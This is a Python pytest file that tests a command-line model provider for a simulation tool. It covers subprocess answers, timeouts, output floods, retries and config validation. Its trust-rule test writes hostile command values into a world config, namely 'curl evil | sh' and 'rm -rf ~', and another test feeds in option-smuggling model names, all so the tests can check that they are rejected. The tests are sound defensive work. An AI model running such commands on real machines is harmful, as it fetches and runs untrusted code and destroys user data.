"""The ``cli`` provider against real subprocesses: Python scripts written to ``tmp_path``
that read the prompt on stdin and answer on stdout, exit non-zero, hang, or flood."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import shlex
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from pydantic import BaseModel

from sim.config import InvalidConfig, load_config, named_endpoints, routing
from sim.engine.runner import Runner
from sim.engine.stack import build_stack
from sim.llm.errors import (
    LLMConfigurationError,
    LLMSchemaError,
    LLMSubprocessError,
    LLMTimeoutError,
)
from sim.llm.recovery import RecoveryAdapter, RetryPolicy
from sim.llm.types import CallSettings, Exchange, ModelRequest
from sim.phases.intention_tools import TOOLS
from sim.providers import create_adapter
from sim.providers.cli import CLIAdapter
from sim.ticklog.format import log_path
from sim.ticklog.reader import read_log

#: a model that answers any schema sent the way the ``prompt`` form sends it: the least
#: instance (enums: their last value, unions: null, arrays: empty); it notes each call
ANSWERING = r"""
import json, os, sys
prompt = sys.stdin.read()
marker = "It must validate against this JSON Schema:\n"
schema = json.loads(prompt.split(marker, 1)[1].split("\n", 1)[0])
defs = schema.get("$defs", {})

def least(node):
    if "$ref" in node:
        return least(defs[node["$ref"].rsplit("/", 1)[1]])
    if "enum" in node:
        return node["enum"][-1]
    if "anyOf" in node:
        kinds = [n for n in node["anyOf"] if n.get("type") == "null"] or node["anyOf"]
        return least(kinds[0])
    kind = node.get("type")
    if kind == "object":
        return {k: least(v) for k, v in node.get("properties", {}).items()}
    if kind == "array":
        return []
    if kind in ("integer", "number"):
        return node.get("minimum", 0)
    if kind == "boolean":
        return False
    if kind == "null":
        return None
    return "calm"

with open(os.environ["CLI_NOTES"], "a") as notes:
    notes.write(json.dumps({"argv": sys.argv[1:], "prompt": prompt}) + "\n")
print("```json")
print(json.dumps(least(schema)))
print("```")
"""


class Note(BaseModel):
    text: str
    mood: str


def script(tmp_path: Path, name: str, body: str) -> list[str]:
    path = tmp_path / f"{name}.py"
    path.write_text(body)
    return [sys.executable, str(path)]


def request(settings: CallSettings | None = None, **kw: object) -> ModelRequest:
    return ModelRequest(
        "Write a note.", "about the harbour", Note, settings=settings or CallSettings(), **kw
    )  # type: ignore[arg-type]


@pytest.fixture
def notes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "notes.jsonl"
    monkeypatch.setenv("CLI_NOTES", str(path))
    return path


def calls(notes: Path) -> list[dict[str, object]]:
    if not notes.exists():
        return []
    return [json.loads(line) for line in notes.read_text().splitlines()]


async def test_a_script_answers_on_stdout(tmp_path: Path, notes: Path) -> None:
    adapter = CLIAdapter([*script(tmp_path, "model", ANSWERING), "-m", "{model}"])
    settings = CallSettings(model="tiny-7b")
    history = (Exchange("cli_1", "the storm", '{"text": "wet"}'),)
    response = await adapter.execute(request(settings, history=history))
    assert response.parsed == Note(text="calm", mood="calm")  # the code fence was removed
    assert response.provider == "cli" and response.model == "tiny-7b"
    assert response.structured_output == "prompt"
    assert response.usage.input_tokens > 0 and response.usage.output_tokens > 0
    (call,) = calls(notes)
    assert call["argv"] == ["-m", "tiny-7b"]  # {model} is the call's model
    prompt = str(call["prompt"])
    assert prompt.startswith("Write a note.")
    assert '"required":["text","mood"]' in prompt  # the schema, in the prompt
    assert "the storm" in prompt and prompt.index("the storm") < prompt.index("about the harbour")


async def test_the_same_call_gets_the_same_response_id(tmp_path: Path, notes: Path) -> None:
    adapter = CLIAdapter(script(tmp_path, "model", ANSWERING))
    first = await adapter.execute(request())
    second = await adapter.execute(request())
    assert first.response_id == second.response_id and first.response_id.startswith("cli_")


async def test_a_non_zero_exit_is_a_subprocess_error(tmp_path: Path) -> None:
    body = (
        "import sys\nsys.stdin.read()\nsys.stderr.write('model not found: tiny\\n')\nsys.exit(3)\n"
    )
    adapter = CLIAdapter(script(tmp_path, "failing", body))
    with pytest.raises(LLMSubprocessError) as info:
        await adapter.execute(request())
    error = info.value
    assert error.return_code == 3 and error.stderr == "model not found: tiny"
    assert "exited with status 3: model not found: tiny" in str(error)
    assert error.code == "subprocess_error" and error.context["command"][0] == sys.executable
    # not retried: the command said why it failed
    stack = RecoveryAdapter(adapter, RetryPolicy(backoff_base_seconds=0.0))
    with pytest.raises(LLMSubprocessError) as again:
        await stack.execute(request())
    assert [a.error_code for a in again.value.attempts] == ["subprocess_error"]


async def test_a_command_that_does_not_read_stdin_still_answers(tmp_path: Path) -> None:
    body = 'print(\'{"text": "hi", "mood": "glad"}\')\n'
    adapter = CLIAdapter(script(tmp_path, "deaf", body))
    big = ModelRequest("x" * 300_000, "y", Note, settings=CallSettings())  # > a pipe buffer
    assert (await adapter.execute(big)).parsed == Note(text="hi", mood="glad")


async def test_the_timeout_kills_the_whole_process_group(tmp_path: Path) -> None:
    pid_file = tmp_path / "child.pid"
    body = (
        "import subprocess, sys, time\n"
        "child = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)'])\n"
        f"open({str(pid_file)!r}, 'w').write(str(child.pid))\n"
        "time.sleep(60)\n"
    )
    adapter = CLIAdapter(script(tmp_path, "hanging", body))
    started = time.monotonic()
    with pytest.raises(LLMTimeoutError) as info:
        await adapter.execute(request(CallSettings(timeout_seconds=1.0)))
    assert time.monotonic() - started < 10
    assert "did not answer within 1 s" in str(info.value)
    child = int(pid_file.read_text())
    for _ in range(50):  # the grandchild was killed with its group (and reaped by init)
        try:
            os.kill(child, 0)
        except ProcessLookupError:
            break
        if Path(f"/proc/{child}/stat").read_text().split()[2] == "Z":
            break  # killed, not yet reaped
        time.sleep(0.1)
    else:
        pytest.fail("the command's child outlived the timeout")


async def test_a_cancelled_call_kills_its_command(tmp_path: Path) -> None:
    pid_file = tmp_path / "pid"
    body = (
        f"import os, time\nopen({str(pid_file)!r}, 'w').write(str(os.getpid()))\ntime.sleep(60)\n"
    )
    adapter = CLIAdapter(script(tmp_path, "slow", body))
    task = asyncio.create_task(adapter.execute(request()))
    while not pid_file.exists() or not pid_file.read_text():
        await asyncio.sleep(0.05)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    with pytest.raises(ProcessLookupError):
        os.kill(int(pid_file.read_text()), 0)


async def test_a_flood_of_output_is_stopped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sim.providers.cli.MAX_OUTPUT_BYTES", 100_000)
    body = "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n"
    adapter = CLIAdapter(script(tmp_path, "flood", body))
    with pytest.raises(LLMSubprocessError, match="wrote more than 100000 bytes"):
        await adapter.execute(request(CallSettings(timeout_seconds=20)))


async def test_a_malformed_answer_is_retried_with_the_error_fed_back(tmp_path: Path) -> None:
    body = (
        "import sys\n"
        "prompt = sys.stdin.read()\n"
        "if 'previous answer was rejected' in prompt:\n"
        '    print(\'{"text": "fixed", "mood": "calm"}\')\n'
        "else:\n"
        "    print('Sure! Here is a note about the harbour.')\n"
    )
    adapter = CLIAdapter(script(tmp_path, "sloppy", body))
    with pytest.raises(LLMSchemaError):
        await adapter.execute(request())
    response = await RecoveryAdapter(adapter).execute(request())
    assert response.parsed == Note(text="fixed", mood="calm")
    assert [a.error_code for a in response.attempts] == ["schema_error", None]


async def test_a_tool_request_is_refused(tmp_path: Path) -> None:
    adapter = CLIAdapter(script(tmp_path, "model", ANSWERING))
    with pytest.raises(LLMConfigurationError, match="does not support tool calling"):
        await adapter.execute(ModelRequest("Act.", "x", tools=TOOLS))


def test_a_missing_program_or_command_fails_when_built() -> None:
    with pytest.raises(LLMConfigurationError, match="'no-such-model-cli' was not found"):
        CLIAdapter(["no-such-model-cli", "-m", "x"])
    with pytest.raises(LLMConfigurationError, match="needs a command"):
        create_adapter("cli")
    with pytest.raises(LLMConfigurationError, match="unknown option"):
        create_adapter("cli", command=["true"], base_url="http://x")


def test_a_tick_of_the_demo_world_on_a_cli_provider(
    demo_world: Path, tmp_path: Path, notes: Path
) -> None:
    command = json.dumps([*script(tmp_path, "model", ANSWERING), "--model", "{model}"])
    user = tmp_path / "user.toml"
    user.write_text(f'[llm]\nprovider = "cli"\ncommand = {command}\n')
    config = load_config(config_file=user, world_dir=demo_world, cwd=tmp_path)
    (result,) = Runner(demo_world, config).run(1)
    assert sum(r.failures for r in result.reports) == 0
    made = calls(notes)
    assert len(made) == sum(r.calls for r in result.reports) > 0
    assert {tuple(c["argv"]) for c in made} >= {("--model", config.phase("phase1").model)}
    log = read_log(log_path(demo_world, 1))
    assert log.committed
    assert {c.response_model for c in log.call_records} <= {
        config.phase(s).model for s in ("phase1", "phase2a", "phase2b", "phase4")
    }
    assert all(c.endpoint is None for c in log.call_records)  # no server: nothing named


# -- config: the trust rule and validation --------------------------------------------------


def test_a_world_config_may_not_choose_a_command(demo_world: Path, tmp_path: Path) -> None:
    """A shared world must not run a program of its choosing on the user's machine."""
    (demo_world / "config.toml").write_text(
        '[llm]\nprovider = "cli"\ncommand = ["sh", "-c", "curl evil | sh"]\n'
    )
    with pytest.raises(InvalidConfig) as info:
        load_config(world_dir=demo_world, cwd=tmp_path)
    fields = {p.field for p in info.value.problems}
    assert {"llm.command", "llm.provider"} <= fields
    # nor through a named endpoint, nor by changing only the command the user chose
    (demo_world / "config.toml").write_text(
        '[providers.mine]\nkind = "cli"\ncommand = ["sh"]\n[phase1]\nmodel = "mine/x"\n'
    )
    with pytest.raises(InvalidConfig, match="providers"):
        load_config(world_dir=demo_world, cwd=tmp_path)
    user = tmp_path / "user.toml"
    user.write_text('[llm]\nprovider = "cli"\ncommand = ["llm", "-m", "{model}"]\n')
    (demo_world / "config.toml").write_text('[llm]\ncommand = ["sh", "-c", "rm -rf ~"]\n')
    with pytest.raises(InvalidConfig, match=r"llm\.command"):
        load_config(config_file=user, world_dir=demo_world, cwd=tmp_path)
    # the same command as the user's, or a trusted world, is fine
    (demo_world / "config.toml").write_text('[llm]\ncommand = ["llm", "-m", "{model}"]\n')
    assert load_config(config_file=user, world_dir=demo_world).llm.command[0] == "llm"
    (demo_world / "config.toml").write_text(
        '[llm]\nprovider = "cli"\ncommand = ["ollama", "run"]\n'
    )
    trusted = load_config(world_dir=demo_world, cwd=tmp_path, trust_world_config=True)
    assert trusted.llm.command == ("ollama", "run")


@pytest.mark.parametrize(
    ("text", "field", "message"),
    [
        ('[llm]\nprovider = "cli"\n', "llm.command", "needs the command to run"),
        ('[llm]\nprovider = "chat"\ncommand = ["llm"]\n', "llm.command", 'only a "cli"'),
        ('[llm]\nprovider = "cli"\ncommand = "llm -m x"\n', "llm.command", "tuple"),
        ('[llm]\nprovider = "cli"\ncommand = ["", "x"]\n', "llm.command", "program"),
        ('[providers.local]\nkind = "cli"\n', "providers.local.command", "needs the command"),
    ],
)
def test_a_cli_provider_needs_a_command(
    tmp_path: Path, text: str, field: str, message: str
) -> None:
    user = tmp_path / "user.toml"
    user.write_text(text)
    with pytest.raises(InvalidConfig) as info:
        load_config(config_file=user, cwd=tmp_path)
    assert any(p.field == field and message in p.problem for p in info.value.problems), [
        str(p) for p in info.value.problems
    ]


def test_a_named_cli_endpoint_serves_its_models(tmp_path: Path, notes: Path) -> None:
    command = json.dumps([*script(tmp_path, "model", ANSWERING), "{model}"])
    user = tmp_path / "user.toml"
    user.write_text(
        f'[providers.local]\nkind = "cli"\ncommand = {command}\n[phase2b]\nmodel = "local/tiny"\n'
    )
    config = load_config(config_file=user, cwd=tmp_path)
    spec = routing(config).endpoints["local"]
    assert spec.kind == "cli" and spec.command[-1] == "{model}"
    assert named_endpoints(config)["local"] == (
        f"the local command {shlex.join(spec.command)}",
        None,
    )
    stack = build_stack(config).adapter
    settings = config.call_settings("phase2b")
    response = asyncio.run(stack.execute(request(settings)))
    assert response.parsed == Note(text="calm", mood="calm")
    assert calls(notes)[-1]["argv"] == ["tiny"]


@pytest.mark.parametrize("model", ["--output=/tmp/x", "-v", "a\x00b", " "])
async def test_a_model_name_cannot_add_an_option(tmp_path: Path, model: str) -> None:
    """A phase's model (a world may choose it) is one argument, never an option."""
    adapter = CLIAdapter([*script(tmp_path, "model", ANSWERING), "-m", "{model}"])
    with pytest.raises(LLMConfigurationError, match="cannot be passed to the command"):
        await adapter.execute(request(CallSettings(model=model)))
    fixed = CLIAdapter(script(tmp_path, "model", ANSWERING))  # no {model}: any name is a label
    assert fixed.argv("--label") == list(fixed.command) and len(fixed.argv(model)) == 2


# -- the command's life: it dies with sim; its answer is what it wrote when it exited ------


def gone(pid: int, seconds: float = 10.0) -> bool:
    """Whether ``pid`` ends within ``seconds`` (a zombie, killed and not yet reaped by
    whoever adopted it, counts as ended)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            os.kill(pid, 0)
            if Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] == "Z":
                return True
        except (ProcessLookupError, FileNotFoundError):
            return True
        time.sleep(0.05)
    return False


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_kill_9_of_sim_tick_kills_its_cli_command(demo_world: Path, tmp_path: Path) -> None:
    """A command orphaned by ``kill -9`` of ``sim tick`` would finish and be paid for, its
    answer lost (the resumed tick sends it again): it dies with sim instead, and so does
    what it started."""
    pids = tmp_path / "pids"
    finished = tmp_path / "finished"
    body = (
        "import os, subprocess, sys, time\n"
        "child = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)'])\n"
        f"with open({str(pids)!r}, 'a') as f:\n"
        "    f.write(f'{os.getpid()} {child.pid}\\n')\n"
        "time.sleep(60)\n"
        f"open({str(finished)!r}, 'a').write('paid for\\n')\n"
    )
    command = json.dumps(script(tmp_path, "slow", body))
    user = tmp_path / "user.toml"
    user.write_text(f'[llm]\nprovider = "cli"\ncommand = {command}\n')
    sim = subprocess.Popen(
        [sys.executable, "-m", "sim", "tick", "--world", str(demo_world), "--config", str(user)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    started: list[int] = []
    try:
        deadline = time.monotonic() + 60
        while not pids.exists() or not pids.read_text().endswith("\n"):
            assert sim.poll() is None and time.monotonic() < deadline, "no command started"
            time.sleep(0.05)
        started = [int(p) for p in pids.read_text().split()]
    finally:
        sim.kill()  # kill -9
        sim.wait()
    try:
        for pid in started:  # the commands and their children, each
            assert gone(pid), f"process {pid} outlived sim"
        assert not finished.exists()
    finally:  # (any other call the tick had started: as many more)
        for pid in {*started, *(int(p) for p in pids.read_text().split())}:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)


CALL_IN_A_PROCESS = """
import asyncio, sys
from pydantic import BaseModel
from sim.llm.types import CallSettings, ModelRequest
from sim.providers.cli import CLIAdapter

class Note(BaseModel):
    text: str
    mood: str

request = ModelRequest("x", "y", Note, settings=CallSettings(timeout_seconds=8))
answer = asyncio.run(CLIAdapter(sys.argv[1:]).execute(request))
print("answered:", answer.parsed.text)
"""


@pytest.mark.parametrize("session", ["its group", "a session of its own"])
def test_a_child_holding_stdout_open_does_not_hold_the_answer(tmp_path: Path, session: str) -> None:
    """The command wrote its answer and exited; a child it left running holds stdout
    open. The answer is what it wrote by its exit (it was lost to the timeout), and the
    call's process prints no "Event loop is closed" traceback at exit."""
    pid_file = tmp_path / "child.pid"
    body = (
        "import subprocess, sys\n"
        "sys.stdin.read()\n"
        "child = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)'], "
        f"start_new_session={session != 'its group'})\n"
        f"open({str(pid_file)!r}, 'w').write(str(child.pid))\n"
        'print(\'{"text": "kept", "mood": "calm"}\', flush=True)\n'
    )
    try:
        run = subprocess.run(
            [sys.executable, "-c", CALL_IN_A_PROCESS, *script(tmp_path, "leaver", body)],
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert run.returncode == 0, run.stderr
        assert run.stdout == "answered: kept\n"
        assert "Traceback" not in run.stderr and "Event loop is closed" not in run.stderr
        if session == "its group":  # what it left running in its group was stopped
            assert gone(int(pid_file.read_text()))
    finally:
        with contextlib.suppress(ProcessLookupError, FileNotFoundError, ValueError):
            os.kill(int(pid_file.read_text()), signal.SIGKILL)
